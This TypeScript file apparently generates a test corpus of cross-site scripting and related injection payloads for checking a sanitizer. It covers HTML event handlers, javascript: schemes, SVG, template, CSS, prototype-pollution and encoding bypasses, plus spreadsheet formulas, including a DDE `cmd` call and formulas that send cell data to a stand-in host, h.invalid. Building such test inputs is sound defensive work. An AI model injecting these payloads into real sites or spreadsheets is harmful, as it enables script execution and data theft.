/** What a payload does where it runs: the page counts it. */
const RUN = '__run()';

const TAGS = [
  'script',
  'img',
  'svg',
  'iframe',
  'object',
  'embed',
  'math',
  'details',
  'video',
  'audio',
  'body',
  'input',
  'marquee',
  'template',
  'style',
  'link',
  'base',
  'meta',
  'form',
  'a',
];
const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onanimationstart',
  'onbegin',
  'onpointerenter',
  'onbeforetoggle',
  'onscrollend',
];
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  '\u0001javascript:',
  'data:text/html,',
  'vbscript:',
  'blob:',
  'javascript&colon;',
  '&#106;avascript:',
];
const QUOTES = [
  '',
  '"',
  "'",
  '`',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '*/',
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '</svg>',
  '</template>',
];
const SVG = ['animate', 'set', 'use', 'foreignObject', 'image', 'a', 'handler', 'script', 'style', 'text'];
const TEMPLATES = ['${', '{{', '#{', '<%=', '{%', '[[', '{{{', '@{', '?{', '%{'];
const CSS = [
  'expression(',
  'url(javascript:',
  '@import "//h.invalid',
  'behavior:url(',
  '-moz-binding:url(',
  ':host{background:url(//h.invalid/',
];
const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  'then',
  'length',
  'innerHTML',
];
const FORMULAS = ['=', '+', '-', '@', '\t=', '=cmd|', '=HYPERLINK(', '=WEBSERVICE(', '@SUM(', '=IMPORTXML('];
const LIT = [
  '<!--?lit$',
  'lit$',
  '<?lit$',
  '?lit$0$',
  '<!--lit-part-->',
  '<!--/lit-part-->',
  '@click=',
  '.innerHTML=',
  '?hidden=',
  '$lit$',
];
const UNICODE = ['\u202e', '\u2028', '\ufeff', '＜script＞', '\u00a0', '\u0130', '\ud83d\ude00', 'ﬀ', '‹script›', '\u2066'];
const ENTITIES = ['&lt;', '&#60;', '&#x3c;', '&amp;lt;', '\\u003c', '\\x3c', '%3c', '%253c', '&LT;', '+ADw-'];

const families: readonly (readonly string[])[] = [
  TAGS.flatMap((tag) => QUOTES.slice(0, 7).map((quote) => `${quote}<${tag} src=x href=x onerror=${RUN} onload=${RUN}>${RUN}</${tag}>`)),
  HANDLERS.flatMap((handler) => QUOTES.slice(0, 8).map((quote) => `${quote} ${handler}=${RUN} autofocus tabindex=1 x=${quote}`)),
  SCHEMES.flatMap((scheme) => [
    `${scheme}${RUN}`,
    `<a href="${scheme}${RUN}">go</a>`,
    `[go](${scheme}${RUN})`,
    `<iframe src="${scheme}${RUN}">`,
  ]),
  QUOTES.map((quote) => `${quote}<script>${RUN}</script>`),
  SVG.flatMap((tag) => [
    `<svg><${tag} onbegin=${RUN} attributeName=href dur=1s values="javascript:${RUN}">`,
    `<svg onload=${RUN}><${tag}>`,
    `<svg/${tag}/onload=${RUN}>`,
  ]),
  TEMPLATES.flatMap((open) => [`${open}${RUN}}}`, `${open}constructor.constructor('${RUN}')()}`, `${open}7*7}`]),
  CSS.flatMap((css) => [`${css}${RUN})`, `</style><style>*{x:${css}${RUN})}`, `x" style="${css}${RUN})`]),
  NAMES.flatMap((name) => [name, `{"${name}":{"ran":true}}`, `${name}[ran]=1`]),
  FORMULAS.flatMap((sign) => [`${sign}1+1`, `${sign}"http://h.invalid/?"&A1)`, `${sign}cmd|' /C calc'!A0`]),
  LIT.flatMap((mark) => [`${mark}${RUN}`, `<p ${mark}"${RUN}">`, `${mark}><img src=x onerror=${RUN}>`]),
  UNICODE.flatMap((mark) => [`${mark}<img src=x onerror=${RUN}>`, `<img${mark}src=x onerror=${RUN}>`, `${mark}${RUN}`]),
  ENTITIES.flatMap((left) => [`${left}img src=x onerror=${RUN}>`, `${left}script>${RUN}${left}/script>`, `"${left}`]),
  [
    `"}]);${RUN};//`,
    `'];${RUN};['`,
    `\\"});${RUN};//`,
    `\\u0022};${RUN}`,
    `null,"x":${RUN}`,
    `</script><script>${RUN}//`,
    `;${RUN};`,
    `\n${RUN}\n`,
    `*/${RUN}/*`,
    `'-${RUN}-'`,
  ],
];

/** Script-injection payloads by family; each once, at most as long as the longest name that the contract takes. */
export function payloads(): string[] {
  return [...new Set(families.flat())].filter((text) => text.length <= 256 && text.trim() !== '');
}
